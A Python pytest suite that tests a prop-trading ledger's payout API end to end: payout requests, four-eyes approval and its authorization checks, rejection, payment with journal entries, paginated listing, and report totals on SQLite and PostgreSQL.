"""Payouts through the HTTP API, end to end, on an SQLite file and on PostgreSQL: request,
four-eyes approval, rejection, payment, the payout list, the payout and profit-split reports,
and the journal they must agree with (DESIGN.md, "Payouts (funded accounts)").

Every funded account here comes from a one-phase program whose target is 1 % of
100,000.00 with no minimum of trading days: a first trade of +1,000.00 passes the phase and
opens the funded account. Its payouts may be asked for at once (first_payout_after_days 0,
payout_interval_days 0), the split is 80 %, the minimum payout 50.00 and the 540.00 fee is
refunded with the first approved payout.
"""

from __future__ import annotations

import csv
import io
import re
from collections import defaultdict
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from decimal import Decimal
from typing import Any
from uuid import uuid4

import pytest
from fastapi.testclient import TestClient

from api.app import create_app
from api.auth import mint_token
from ledger.config import Settings

SECRET = "payout-e2e-secret-" + "p" * 40

# DESIGN.md, "Payout fields"; then the payout report's CSV columns, in their order.
PAYOUT_FIELDS = (
    "payout_id", "account_id", "trader_id", "status", "currency", "profit",
    "profit_split_pct", "trader_share", "firm_share", "fee_refund", "total", "requested_by",
    "requested_at", "approved_by", "approved_at", "paid_reference", "paid_at",
)  # fmt: skip
CSV_HEADER = [
    "payout_id", "account_id", "trader_id", "program_id", "status", "currency", "profit",
    "profit_split_pct", "trader_share", "firm_share", "fee_refund", "fee_refund_currency",
    "total", "requested_by", "requested_at", "approved_by", "approved_at", "paid_reference",
    "paid_at",
]  # fmt: skip


def headers(*roles: str, sub: str | None = None, trader_id: str | None = None) -> dict[str, str]:
    token = mint_token(
        SECRET, sub=sub or f"{roles[0]}-{uuid4().hex[:6]}", roles=list(roles), trader_id=trader_id
    )
    return {"Authorization": f"Bearer {token}"}


ADMIN = headers("admin", sub="admin-1")
FINANCE = headers("finance", sub="finance-1")
PLATFORM = headers("platform", sub="bridge-1")
AUDITOR = headers("auditor", sub="auditor-1")
APPROVER = headers("approver", sub="approver-bob")
OTHER_APPROVER = headers("approver", sub="approver-carol")


def uid(prefix: str) -> str:
    return f"{prefix}{uuid4().hex[:10]}"


def program_body(fee_currency: str = "USD") -> dict[str, Any]:
    return {
        "program_id": uid("payout-prog-"),
        "name": "One phase 100k",
        "currency": "USD",
        "initial_balance": "100000.00",
        "fee": {"amount": "540.00", "currency": fee_currency},
        "day_timezone": "UTC",
        "day_start": "00:00",
        "phases": [
            {
                "name": "challenge",
                "profit_target_pct": "1",
                "max_daily_loss_pct": "5",
                "max_loss_pct": "10",
                "max_loss_mode": "static",
                "min_trading_days": 0,
                "consistency_max_day_pct": None,
            }
        ],
        "funded": {
            "max_daily_loss_pct": "5",
            "max_loss_pct": "10",
            "max_loss_mode": "static",
            "profit_split_pct": "80",
            "split_scaling": [{"after_payouts": 4, "profit_split_pct": "90"}],
            "first_payout_after_days": 0,
            "payout_interval_days": 0,
            "min_payout": "50.00",
            "refund_fee_with_first_payout": True,
            "consistency_max_day_pct": None,
        },
    }


def backend_url(request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory) -> str:
    if request.param == "postgres":
        url: str = request.getfixturevalue("postgres_url")
        return url
    return f"sqlite:///{tmp_path_factory.mktemp('payout-db') / 'propledger.db'}"


@pytest.fixture(
    scope="module", params=["sqlite", pytest.param("postgres", marks=pytest.mark.postgres)]
)
def client(
    request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory
) -> Iterator[TestClient]:
    url = backend_url(request, tmp_path_factory)
    settings = Settings(propledger_database_url=url, propledger_jwt_secret=SECRET)
    with TestClient(create_app(settings)) as started:
        yield started


def define(client: TestClient, fee_currency: str = "USD") -> str:
    body = program_body(fee_currency)
    created = client.post("/v1/programs", json=body, headers=ADMIN)
    assert created.status_code == 201, created.text
    return str(body["program_id"])


@pytest.fixture(scope="module")
def program_id(client: TestClient) -> str:
    return define(client)


@pytest.fixture(scope="module")
def eur_fee_program_id(client: TestClient) -> str:
    return define(client, fee_currency="EUR")


_TRADE_DAYS = iter(range(10**6))


def trade(
    client: TestClient, account_id: str, profit: str, closed_at: datetime | str | None = None
) -> dict[str, Any]:
    """A trade of `profit`, closed at `closed_at`, or by default on its own minute of
    2026-03-02 (UTC): one trading day, no rule is near."""
    if closed_at is None:
        minute = next(_TRADE_DAYS) % 600
        closed_at = datetime(2026, 3, 2, 8, 0, tzinfo=UTC) + timedelta(minutes=minute)
    elif isinstance(closed_at, str):
        closed_at = datetime.fromisoformat(closed_at)
    body = {
        "trade_id": uid("T-"),
        "symbol": "EURUSD",
        "side": "buy",
        "volume": "1",
        "opened_at": (closed_at - timedelta(minutes=5)).isoformat(),
        "closed_at": closed_at.isoformat(),
        "profit": profit,
    }
    response = client.post(f"/v1/accounts/{account_id}/trades", json=body, headers=PLATFORM)
    assert response.status_code == 201, response.text
    reply: dict[str, Any] = response.json()
    return reply


def phase_account(
    client: TestClient,
    program_id: str,
    trader_id: str,
    amount: str = "540.00",
    currency: str = "USD",
) -> str:
    body = {
        "purchase_id": uid("pur-"),
        "trader_id": trader_id,
        "program_id": program_id,
        "method": "manual",
        "amount": amount,
        "currency": currency,
    }
    response = client.post("/v1/purchases", json=body, headers=FINANCE)
    assert response.status_code == 201, response.text
    return str(response.json()["account_id"])


def funded_account(
    client: TestClient, program_id: str, trader_id: str, profit: str | None = "1000.00"
) -> str:
    """A funded account of `trader_id` with `profit` (one trade) on its balance."""
    passed = trade(client, phase_account(client, program_id, trader_id), "1000.00")
    assert passed["status"] == "passed", passed
    funded_id = str(passed["next_account_id"])
    if profit is not None:
        trade(client, funded_id, profit)
    return funded_id


def account(client: TestClient, account_id: str) -> dict[str, Any]:
    response = client.get(f"/v1/accounts/{account_id}", headers=AUDITOR)
    assert response.status_code == 200, response.text
    state: dict[str, Any] = response.json()
    return state


def trader_headers(trader_id: str, sub: str | None = None, *extra_roles: str) -> dict[str, str]:
    return headers("trader", *extra_roles, sub=sub or f"sub-{trader_id}", trader_id=trader_id)


def request_payout(client: TestClient, account_id: str, who: dict[str, str]) -> dict[str, Any]:
    response = client.post(f"/v1/accounts/{account_id}/payouts", headers=who)
    assert response.status_code == 201, response.text
    payout: dict[str, Any] = response.json()
    return payout


def approve(client: TestClient, payout_id: str, who: dict[str, str] = APPROVER) -> dict[str, Any]:
    response = client.post(f"/v1/payouts/{payout_id}/approve", headers=who)
    assert response.status_code == 200, response.text
    payout: dict[str, Any] = response.json()
    return payout


def error_of(response: Any, status: int, code: str | None = None) -> dict[str, Any]:
    assert response.status_code == status, response.text
    error: dict[str, Any] = response.json()["error"]
    assert set(error) == {"code", "message", "details"}
    if code is not None:
        assert error["code"] == code, error
    return error


def now() -> datetime:
    return datetime.now(UTC)


def instant(moment: datetime) -> str:
    return moment.isoformat()


def parse_instant(text: str) -> datetime:
    return datetime.fromisoformat(text.replace("Z", "+00:00"))


# Requesting ----------------------------------------------------------------------------------


def test_a_trader_requests_a_payout_of_their_own_funded_account_and_sees_the_breakdown(
    client: TestClient, program_id: str
) -> None:
    trader_id = uid("trader-")
    account_id = funded_account(client, program_id, trader_id)
    before = now()
    payout = request_payout(client, account_id, trader_headers(trader_id, "alice-the-trader"))
    after = now()

    assert set(PAYOUT_FIELDS) <= set(payout)
    assert payout["account_id"] == account_id
    assert payout["trader_id"] == trader_id
    assert payout["status"] == "requested"
    assert payout["currency"] == "USD"
    # 1,000.00 of profit at 80 %, plus the 540.00 fee back with the first payout.
    assert payout["profit"] == "1000.00"
    assert Decimal(payout["profit_split_pct"]) == Decimal("80")
    assert payout["trader_share"] == "800.00"
    assert payout["firm_share"] == "200.00"
    assert payout["fee_refund"] == "540.00"
    assert payout["total"] == "1340.00"
    assert payout["requested_by"] == "alice-the-trader"
    assert before <= parse_instant(payout["requested_at"]) <= after
    assert payout["approved_by"] is None
    assert payout["approved_at"] is None
    assert payout["paid_reference"] is None
    assert payout["paid_at"] is None

    fetched = client.get(f"/v1/payouts/{payout['payout_id']}", headers=FINANCE)
    assert fetched.status_code == 200, fetched.text
    assert {key: fetched.json()[key] for key in PAYOUT_FIELDS} == {
        key: payout[key] for key in PAYOUT_FIELDS
    }
    # Asking moves no money.
    assert account(client, account_id)["balance"] == "101000.00"


def test_finance_may_request_a_payout_for_any_account(client: TestClient, program_id: str) -> None:
    account_id = funded_account(client, program_id, uid("trader-"))
    payout = request_payout(client, account_id, FINANCE)
    assert payout["requested_by"] == "finance-1"
    assert payout["status"] == "requested"


def test_a_trader_asking_for_another_traders_account_gets_403_and_nothing_is_recorded(
    client: TestClient, program_id: str
) -> None:
    owner, intruder = uid("trader-"), uid("trader-")
    account_id = funded_account(client, program_id, owner)
    version = account(client, account_id)["version"]

    refused = client.post(f"/v1/accounts/{account_id}/payouts", headers=trader_headers(intruder))
    error_of(refused, 403, "forbidden")
    # The same with a staff role beside the trader role: only its own accounts.
    with_role = trader_headers(intruder, None, "approver")
    error_of(client.post(f"/v1/accounts/{account_id}/payouts", headers=with_role), 403)
    unknown = client.post(f"/v1/accounts/{uuid4()}/payouts", headers=trader_headers(owner))
    error_of(unknown, 404)
    assert account(client, account_id)["version"] == version


@pytest.mark.parametrize("roles", [("approver",), ("auditor",), ("platform",), ("admin",)])
def test_only_a_trader_or_finance_may_request_a_payout(
    client: TestClient, program_id: str, roles: tuple[str, ...]
) -> None:
    account_id = funded_account(client, program_id, uid("trader-"))
    refused = client.post(f"/v1/accounts/{account_id}/payouts", headers=headers(*roles))
    error_of(refused, 403, "forbidden")
    unauthenticated = client.post(f"/v1/accounts/{account_id}/payouts")
    error_of(unauthenticated, 401)


def test_a_refused_request_is_422_with_every_reason_in_details(
    client: TestClient, program_id: str
) -> None:
    trader_id = uid("trader-")
    who = trader_headers(trader_id)

    no_profit = funded_account(client, program_id, trader_id, profit=None)
    refused = client.post(f"/v1/accounts/{no_profit}/payouts", headers=who)
    error = error_of(refused, 422, "payout_not_eligible")
    assert error["details"]["reasons"] == ["no_profit", "below_minimum"]

    small = funded_account(client, program_id, trader_id, profit="49.99")
    refused = client.post(f"/v1/accounts/{small}/payouts", headers=who)
    assert error_of(refused, 422)["details"]["reasons"] == ["below_minimum"]

    # The passed phase account keeps its 1,000.00 of profit, but it is not the funded one.
    passed_phase = phase_account(client, program_id, trader_id)
    assert trade(client, passed_phase, "1000.00")["status"] == "passed"
    refused = client.post(f"/v1/accounts/{passed_phase}/payouts", headers=who)
    assert error_of(refused, 422)["details"]["reasons"] == ["not_funded", "not_active"]

    pending = funded_account(client, program_id, trader_id)
    request_payout(client, pending, who)
    refused = client.post(f"/v1/accounts/{pending}/payouts", headers=who)
    assert error_of(refused, 422)["details"]["reasons"] == ["payout_pending"]


def test_a_retried_request_with_its_idempotency_key_replays_the_same_payout(
    client: TestClient, program_id: str
) -> None:
    trader_id = uid("trader-")
    account_id = funded_account(client, program_id, trader_id)
    who = {**trader_headers(trader_id, "alice-retry"), "Idempotency-Key": uid("key-")}
    first = client.post(f"/v1/accounts/{account_id}/payouts", headers=who)
    assert first.status_code == 201, first.text
    again = client.post(f"/v1/accounts/{account_id}/payouts", headers=who)
    assert again.status_code == 201, again.text
    assert again.json()["payout_id"] == first.json()["payout_id"]
    # A new key is a new request: refused, one payout is already pending.
    fresh = {**who, "Idempotency-Key": uid("key-")}
    refused = client.post(f"/v1/accounts/{account_id}/payouts", headers=fresh)
    assert error_of(refused, 422)["details"]["reasons"] == ["payout_pending"]

    approver = {**APPROVER, "Idempotency-Key": uid("key-")}
    path = f"/v1/payouts/{first.json()['payout_id']}/approve"
    assert client.post(path, headers=approver).status_code == 200
    replayed = client.post(path, headers=approver)
    assert replayed.status_code == 200, replayed.text
    assert replayed.json()["approved_by"] == "approver-bob"
    assert account(client, account_id)["balance"] == "100000.00"  # withdrawn once


def test_a_trader_reads_their_own_payout_and_no_one_elses(
    client: TestClient, program_id: str
) -> None:
    owner, other = uid("trader-"), uid("trader-")
    payout = request_payout(
        client, funded_account(client, program_id, owner), trader_headers(owner)
    )
    path = f"/v1/payouts/{payout['payout_id']}"
    own = client.get(path, headers=trader_headers(owner))
    assert own.status_code == 200, own.text
    assert own.json()["payout_id"] == payout["payout_id"]
    error_of(client.get(path, headers=trader_headers(other)), 403, "forbidden")
    # The payout desk reads any payout; a bridge or an admin none (as GET /v1/payouts and
    # /v1/stream: a payout and its bank reference are not theirs to see).
    for staff in (FINANCE, APPROVER, AUDITOR):
        assert client.get(path, headers=staff).status_code == 200
    for outsider in (PLATFORM, ADMIN, trader_headers(other, None, "platform")):
        error_of(client.get(path, headers=outsider), 403, "forbidden")


def test_a_bridge_replaying_weeks_of_history_reaches_the_payout_days_with_its_trades(
    client: TestClient,
) -> None:
    """DESIGN's example terms (14 days to the first payout, 14 between payouts) on a history
    replayed in a second: the first payout's days count on the account's own clock (its
    trades and marks, as the rules' days do) as well as on the ledger's, whichever passed
    them first; the interval after an approval on the ledger's clock only (an approval is
    an act of now)."""
    body = program_body()
    body["funded"] |= {"first_payout_after_days": 14, "payout_interval_days": 14}
    assert client.post("/v1/programs", json=body, headers=ADMIN).status_code == 201
    trader_id = uid("trader-")
    who = trader_headers(trader_id)

    phase = phase_account(client, str(body["program_id"]), trader_id)
    passed = trade(client, phase, "1000.00", "2025-01-06T10:00:00Z")
    funded = str(passed["next_account_id"])
    trade(client, funded, "500.00", "2025-01-19T10:00:00Z")  # 13 days after the pass
    refused = client.post(f"/v1/accounts/{funded}/payouts", headers=who)
    assert error_of(refused, 422)["details"]["reasons"] == ["too_early"]
    trade(client, funded, "500.00", "2025-01-20T10:00:00Z")  # 14 days
    payout = request_payout(client, funded, who)
    assert payout["profit"] == "1000.00"
    approve(client, payout["payout_id"])

    trade(client, funded, "300.00", "2025-02-03T10:00:00Z")  # 14 days on its clock, seconds on ours
    refused = client.post(f"/v1/accounts/{funded}/payouts", headers=who)
    assert error_of(refused, 422)["details"]["reasons"] == ["too_early"]

    # A late trade that passes the phase: the funded account opens at the phase's clock
    # (06-20), not at that trade's closed_at (06-01), so a trade of 06-21 is a day on.
    late_trader = uid("trader-")
    phase = phase_account(client, str(body["program_id"]), late_trader)
    trade(client, phase, "500.00", "2025-06-20T10:00:00Z")
    late_pass = trade(client, phase, "600.00", "2025-06-01T10:00:00Z")
    assert late_pass["status"] == "passed"
    late_funded = str(late_pass["next_account_id"])
    trade(client, late_funded, "1000.00", "2025-06-21T10:00:00Z")
    refused = client.post(
        f"/v1/accounts/{late_funded}/payouts", headers=trader_headers(late_trader)
    )
    assert error_of(refused, 422)["details"]["reasons"] == ["too_early"]


def test_a_later_phase_dated_before_an_earlier_one_does_not_move_the_opening_back(
    client: TestClient,
) -> None:
    """Phase 1 passes on a trade of a minute ago, phase 2 on one dated 30 days back: the
    accounts' clock had reached now at the first pass, so the funded account opened now
    on that clock too, and a trade dated 15 days back is no 14 days on (an audit found
    the first payout due at once)."""
    body = program_body()
    body["phases"] = [body["phases"][0], {**body["phases"][0], "name": "verification"}]
    body["funded"] |= {"first_payout_after_days": 14}
    assert client.post("/v1/programs", json=body, headers=ADMIN).status_code == 201
    trader_id = uid("trader-")
    moment = datetime.now(UTC)

    first = phase_account(client, str(body["program_id"]), trader_id)
    second = trade(client, first, "1500.00", moment - timedelta(minutes=1))["next_account_id"]
    funded = trade(client, second, "1500.00", moment - timedelta(days=30))["next_account_id"]
    trade(client, funded, "1000.00", moment - timedelta(days=15))
    refused = client.post(f"/v1/accounts/{funded}/payouts", headers=trader_headers(trader_id))
    assert error_of(refused, 422)["details"]["reasons"] == ["too_early"]


# Approving -----------------------------------------------------------------------------------


def test_the_requester_cannot_approve_even_holding_the_approver_role(
    client: TestClient, program_id: str
) -> None:
    trader_id = uid("trader-")
    account_id = funded_account(client, program_id, trader_id)
    both = trader_headers(trader_id, "alice-both-roles", "approver")
    payout = request_payout(client, account_id, both)

    error_of(client.post(f"/v1/payouts/{payout['payout_id']}/approve", headers=both), 403)
    # Another token naming the same person as an approver only is refused too.
    same_sub = headers("approver", sub="alice-both-roles")
    refused = client.post(f"/v1/payouts/{payout['payout_id']}/approve", headers=same_sub)
    error_of(refused, 403, "four_eyes")
    # Finance requested: a finance+approver token of the same sub may not approve it either.
    other = funded_account(client, program_id, trader_id)
    finance_approver = headers("finance", "approver", sub="fin-approver-1")
    by_finance = request_payout(client, other, finance_approver)
    refused = client.post(
        f"/v1/payouts/{by_finance['payout_id']}/approve", headers=finance_approver
    )
    error_of(refused, 403, "four_eyes")

    fetched = client.get(f"/v1/payouts/{payout['payout_id']}", headers=FINANCE).json()
    assert fetched["status"] == "requested"
    assert fetched["approved_by"] is None
    assert account(client, account_id)["balance"] == "101000.00"


def test_a_trader_holding_the_approver_role_cannot_approve_its_own_payout(
    client: TestClient, program_id: str
) -> None:
    """Found by an authorization audit: four eyes compared `sub` only, so a token holding
    `trader` and `approver` approved a payout of its own account that finance had asked
    for. The payout's trader may not approve it, whoever asked; another trader may."""
    trader_id = uid("trader-")
    account_id = funded_account(client, program_id, trader_id)
    payout = request_payout(client, account_id, FINANCE)
    own = trader_headers(trader_id, "bob-trader-approver", "approver")

    refused = client.post(f"/v1/payouts/{payout['payout_id']}/approve", headers=own)

    error_of(refused, 403, "four_eyes")
    assert refused.json()["error"]["details"] == {"trader_id": trader_id}
    fetched = client.get(f"/v1/payouts/{payout['payout_id']}", headers=FINANCE).json()
    assert fetched["status"] == "requested"
    assert account(client, account_id)["balance"] == "101000.00"
    someone_else = trader_headers(uid("trader-"), "carol-trader-approver", "approver")
    approved = client.post(f"/v1/payouts/{payout['payout_id']}/approve", headers=someone_else)
    assert approved.status_code == 200, approved.text


def test_only_an_approver_may_approve(client: TestClient, program_id: str) -> None:
    account_id = funded_account(client, program_id, uid("trader-"))
    payout = request_payout(client, account_id, FINANCE)
    for roles in (("finance",), ("auditor",), ("admin",)):
        refused = client.post(f"/v1/payouts/{payout['payout_id']}/approve", headers=headers(*roles))
        error_of(refused, 403, "forbidden")


def test_a_payouts_times_read_the_same_in_its_reply_its_list_row_and_the_report(
    client: TestClient, program_id: str
) -> None:
    trader_id = uid("trader-")
    account_id = funded_account(client, program_id, trader_id)
    payout = request_payout(client, account_id, trader_headers(trader_id))
    approved = approve(client, payout["payout_id"])
    paid = client.post(
        f"/v1/payouts/{payout['payout_id']}/paid", json={"reference": "WIRE-1"}, headers=FINANCE
    ).json()
    listed = client.get("/v1/payouts", params={"status": "paid"}, headers=FINANCE).json()
    (row,) = [r for r in listed["payouts"] if r["payout_id"] == payout["payout_id"]]
    report = client.get("/v1/reports/payouts", headers=FINANCE).json()
    (reported,) = [r for r in report["rows"] if r["payout_id"] == payout["payout_id"]]
    for field in ("requested_at", "approved_at", "paid_at"):
        assert row[field] == reported[field] == paid[field], field
    assert row["requested_at"] == payout["requested_at"]
    assert row["approved_at"] == approved["approved_at"]


def test_another_approver_approves_and_the_profit_leaves_the_balance_but_not_the_floors(
    client: TestClient, program_id: str
) -> None:
    trader_id = uid("trader-")
    account_id = funded_account(client, program_id, trader_id)
    before = account(client, account_id)
    assert (before["balance"], before["profit"]) == ("101000.00", "1000.00")
    payout = request_payout(client, account_id, trader_headers(trader_id, "alice"))

    started = now()
    approved = approve(client, payout["payout_id"], APPROVER)
    assert approved["status"] == "approved"
    assert approved["approved_by"] == "approver-bob"
    assert started <= parse_instant(approved["approved_at"]) <= now()
    assert approved["requested_by"] == "alice"
    assert (approved["profit"], approved["trader_share"], approved["total"]) == (
        "1000.00",
        "800.00",
        "1340.00",
    )

    after = account(client, account_id)
    assert after["balance"] == "100000.00"  # 101,000.00 - 1,000.00 of profit
    assert after["profit"] == "0.00"
    assert after["status"] == "active"
    for floor in ("daily_loss_floor", "max_loss_floor", "day_start_balance", "high_water_mark"):
        assert after[floor] == before[floor], floor

    again = client.post(f"/v1/payouts/{payout['payout_id']}/approve", headers=OTHER_APPROVER)
    error_of(again, 409, "payout_approved")
    same_again = client.post(f"/v1/payouts/{payout['payout_id']}/approve", headers=APPROVER)
    error_of(same_again, 409)
    assert account(client, account_id)["balance"] == "100000.00"

    # The account may ask again as soon as it has profit: no fee refund the second time.
    trade(client, account_id, "500.00")
    second = request_payout(client, account_id, trader_headers(trader_id, "alice"))
    assert (second["profit"], second["trader_share"], second["firm_share"]) == (
        "500.00",
        "400.00",
        "100.00",
    )
    assert (second["fee_refund"], second["total"]) == ("0.00", "400.00")


def test_an_account_that_breached_after_the_request_cannot_have_its_payout_approved(
    client: TestClient, program_id: str
) -> None:
    trader_id = uid("trader-")
    account_id = funded_account(client, program_id, trader_id)
    payout = request_payout(client, account_id, FINANCE)
    trade(client, account_id, "-30000.00")  # through both floors: breached
    breached = account(client, account_id)
    assert breached["status"] == "breached"

    refused = client.post(f"/v1/payouts/{payout['payout_id']}/approve", headers=APPROVER)
    error_of(refused, 409, "not_active")
    fetched = client.get(f"/v1/payouts/{payout['payout_id']}", headers=FINANCE).json()
    assert fetched["status"] == "requested"
    assert account(client, account_id)["balance"] == breached["balance"]
    # The approver can still close it.
    rejected = client.post(
        f"/v1/payouts/{payout['payout_id']}/reject",
        headers=APPROVER,
        json={"reason": "breached after the request"},
    )
    assert rejected.status_code == 200, rejected.text
    assert rejected.json()["status"] == "rejected"


def test_an_unknown_payout_is_404(client: TestClient) -> None:
    error_of(client.post(f"/v1/payouts/{uuid4()}/approve", headers=APPROVER), 404)
    error_of(
        client.post(f"/v1/payouts/{uuid4()}/paid", json={"reference": "x"}, headers=FINANCE), 404
    )
    error_of(client.get(f"/v1/payouts/{uuid4()}", headers=FINANCE), 404)


# Rejecting and paying --------------------------------------------------------------------------


def test_a_rejection_moves_no_money_and_lets_the_account_ask_again(
    client: TestClient, program_id: str
) -> None:
    trader_id = uid("trader-")
    account_id = funded_account(client, program_id, trader_id)
    who = trader_headers(trader_id)
    payout = request_payout(client, account_id, who)
    path = f"/v1/payouts/{payout['payout_id']}/reject"

    error_of(client.post(path, json={}, headers=APPROVER), 422)
    error_of(client.post(path, json={"reason": " \t "}, headers=APPROVER), 422)  # nothing to read
    error_of(client.post(path, json={"reason": "x"}, headers=FINANCE), 403)
    rejected = client.post(path, json={"reason": "trading pattern under review"}, headers=APPROVER)
    assert rejected.status_code == 200, rejected.text
    assert rejected.json()["status"] == "rejected"
    assert rejected.json()["rejection_reason"] == "trading pattern under review"
    assert rejected.json()["approved_by"] is None

    state = account(client, account_id)
    assert (state["balance"], state["profit"]) == ("101000.00", "1000.00")
    error_of(client.post(f"/v1/payouts/{payout['payout_id']}/approve", headers=APPROVER), 409)
    error_of(client.post(path, json={"reason": "again"}, headers=APPROVER), 409)

    again = request_payout(client, account_id, who)
    assert again["payout_id"] != payout["payout_id"]
    # Still the first payout to be approved: the fee refund is still due.
    assert (again["trader_share"], again["fee_refund"], again["total"]) == (
        "800.00",
        "540.00",
        "1340.00",
    )


def test_finance_marks_an_approved_payout_paid_with_its_reference(
    client: TestClient, program_id: str
) -> None:
    trader_id = uid("trader-")
    account_id = funded_account(client, program_id, trader_id)
    payout = request_payout(client, account_id, trader_headers(trader_id))
    path = f"/v1/payouts/{payout['payout_id']}/paid"

    error_of(client.post(path, json={"reference": "SEPA-1"}, headers=FINANCE), 409)
    approve(client, payout["payout_id"])
    error_of(client.post(path, json={"reference": "SEPA-1"}, headers=APPROVER), 403)
    error_of(client.post(path, json={}, headers=FINANCE), 422)
    error_of(client.post(path, json={"reference": "   "}, headers=FINANCE), 422)

    started = now()
    paid = client.post(path, json={"reference": "SEPA-2026-03-000123"}, headers=FINANCE)
    assert paid.status_code == 200, paid.text
    assert paid.json()["status"] == "paid"
    assert paid.json()["paid_reference"] == "SEPA-2026-03-000123"
    assert started <= parse_instant(paid.json()["paid_at"]) <= now()
    assert paid.json()["approved_by"] == "approver-bob"
    error_of(client.post(path, json={"reference": "SEPA-again"}, headers=FINANCE), 409)
    assert account(client, account_id)["balance"] == "100000.00"

    payable = f"liabilities:trader_payable:{trader_id}"
    lines = entries(client, payable)
    assert [(line["event_type"], line["debit"], line["credit"]) for line in lines] == [
        ("Payout.Approved", "0.00", "800.00"),
        ("Payout.Approved", "0.00", "540.00"),
        ("Payout.Paid", "1340.00", "0.00"),
    ]
    bank = [
        line
        for line in entries(client, "assets:bank")
        if line["entry_id"].startswith(payout["payout_id"])
    ]
    assert [(line["debit"], line["credit"]) for line in bank] == [("0.00", "1340.00")]


# Listing ----------------------------------------------------------------------------------------


def test_the_payout_list_filters_by_status_and_request_time_with_a_bounded_page(
    client: TestClient, program_id: str
) -> None:
    trader_id = uid("trader-")
    who = trader_headers(trader_id)
    start = now()
    requested = request_payout(client, funded_account(client, program_id, trader_id), who)
    approved = request_payout(client, funded_account(client, program_id, trader_id), who)
    approve(client, approved["payout_id"])
    rejected = request_payout(client, funded_account(client, program_id, trader_id), who)
    client.post(
        f"/v1/payouts/{rejected['payout_id']}/reject", json={"reason": "no"}, headers=APPROVER
    )
    end = now() + timedelta(microseconds=1)
    mine = [requested["payout_id"], approved["payout_id"], rejected["payout_id"]]

    def listed(**params: Any) -> list[dict[str, Any]]:
        response = client.get(
            "/v1/payouts",
            params={"from": instant(start), "to": instant(end), **params},
            headers=FINANCE,
        )
        assert response.status_code == 200, response.text
        rows: list[dict[str, Any]] = response.json()["payouts"]
        return rows

    assert [row["payout_id"] for row in listed()] == mine  # by request time
    assert [row["payout_id"] for row in listed(status="requested")] == [mine[0]]
    assert [row["payout_id"] for row in listed(status="approved")] == [mine[1]]
    assert [row["payout_id"] for row in listed(status="rejected")] == [mine[2]]
    assert listed(status="paid") == []
    row = listed(status="approved")[0]
    assert (row["approved_by"], row["trader_share"], row["total"]) == (
        "approver-bob",
        "800.00",
        "1340.00",
    )

    # `to` is exclusive; a window after the last request is empty.
    assert (
        client.get(
            "/v1/payouts",
            params={"from": instant(end), "to": instant(end + timedelta(hours=1))},
            headers=FINANCE,
        ).json()["payouts"]
        == []
    )

    # Pages of one, followed by `next_after`.
    seen: list[str] = []
    after: str | None = None
    while True:
        params = {"from": instant(start), "to": instant(end), "limit": 1}
        if after:
            params["after"] = after
        page = client.get("/v1/payouts", params=params, headers=AUDITOR)
        assert page.status_code == 200, page.text
        seen += [row["payout_id"] for row in page.json()["payouts"]]
        after = page.json()["next_after"]
        if after is not None:
            # The cursor survives a URL written by hand: nothing in it needs encoding.
            assert re.fullmatch(r"[0-9A-Za-z:.|_-]+", after), after
        if not page.json()["payouts"] or after is None:
            break
    assert seen == mine
    error_of(
        client.get("/v1/payouts", params={"after": "yesterday|x"}, headers=FINANCE),
        422,
        "invalid_cursor",
    )

    bad_params: list[dict[str, Any]] = [
        {"limit": 10_001},
        {"limit": 0},
        {"status": "lost"},
        {"from": "yesterday"},
        {"to": "2026-01-01T00:00:00"},  # no offset
    ]
    for bad in bad_params:
        error_of(client.get("/v1/payouts", params=bad, headers=FINANCE), 422)
    assert client.get("/v1/payouts", params={"limit": 10_000}, headers=APPROVER).status_code == 200
    # Without a limit, the largest page: every payout of this small store at once.
    whole = client.get("/v1/payouts", headers=FINANCE).json()
    assert {row["payout_id"] for row in whole["payouts"]} >= set(mine)
    assert whole["next_after"] is None
    error_of(client.get("/v1/payouts", headers=trader_headers(trader_id)), 403)
    error_of(client.get("/v1/payouts", headers=PLATFORM), 403)


# Reports ----------------------------------------------------------------------------------------


def entries(client: TestClient, account_code: str) -> list[dict[str, Any]]:
    """Every journal line of an account code (or a code prefix ending in ':'), all pages."""
    lines: list[dict[str, Any]] = []
    after: str | None = None
    while True:
        params: dict[str, Any] = {"account": account_code, "limit": 1000}
        if after:
            params["after"] = after
        page = client.get("/v1/ledger/entries", params=params, headers=AUDITOR)
        assert page.status_code == 200, page.text
        lines += page.json()["entries"]
        after = page.json()["next_after"]
        if after is None:
            return lines


def report_window(client: TestClient, program_id: str, eur_program_id: str) -> dict[str, Any]:
    """In one window: two approved payouts (one then paid) on the USD-fee program, one approved
    on the EUR-fee program, one rejected and one left requested."""
    trader_a, trader_b = uid("trader-a-"), uid("trader-b-")
    start = now()
    first = request_payout(
        client, funded_account(client, program_id, trader_a), trader_headers(trader_a)
    )
    approve(client, first["payout_id"])
    client.post(
        f"/v1/payouts/{first['payout_id']}/paid", json={"reference": "W-1"}, headers=FINANCE
    )
    second_account = funded_account(client, program_id, trader_a, profit="1234.57")
    second = request_payout(client, second_account, trader_headers(trader_a))
    approve(client, second["payout_id"], OTHER_APPROVER)
    euro = request_payout(
        client,
        funded_account(client, eur_program_id, trader_b, profit="2000.00"),
        trader_headers(trader_b),
    )
    approve(client, euro["payout_id"])
    rejected = request_payout(
        client, funded_account(client, program_id, trader_b), trader_headers(trader_b)
    )
    client.post(
        f"/v1/payouts/{rejected['payout_id']}/reject", json={"reason": "no"}, headers=APPROVER
    )
    waiting = request_payout(
        client, funded_account(client, program_id, trader_b), trader_headers(trader_b)
    )
    end = now() + timedelta(milliseconds=1)
    return {
        "from": instant(start),
        "to": instant(end),
        "traders": (trader_a, trader_b),
        "approved": [first["payout_id"], second["payout_id"], euro["payout_id"]],
        "not_approved": [rejected["payout_id"], waiting["payout_id"]],
    }


# The three approved payouts, by hand:
#   1,000.00 at 80 %:  800.00 / 200.00, fee refund 540.00 USD, total 1,340.00 USD (paid)
#   1,234.57 at 80 %:  987.66 / 246.91 (987.656 rounds up), fee refund 540.00 USD, 1,527.66
#   2,000.00 at 80 %: 1,600.00 / 400.00, fee refund 540.00 EUR: 1,600.00 USD + 540.00 EUR
EXPECTED_TOTALS = [
    {
        "currency": "EUR",
        "count": 0,
        "profit": "0.00",
        "trader_share": "0.00",
        "firm_share": "0.00",
        "fee_refund": "540.00",
        "total": "540.00",
    },
    {
        "currency": "USD",
        "count": 3,
        "profit": "4234.57",
        "trader_share": "3387.66",
        "firm_share": "846.91",
        "fee_refund": "1080.00",
        "total": "4467.66",
    },
]


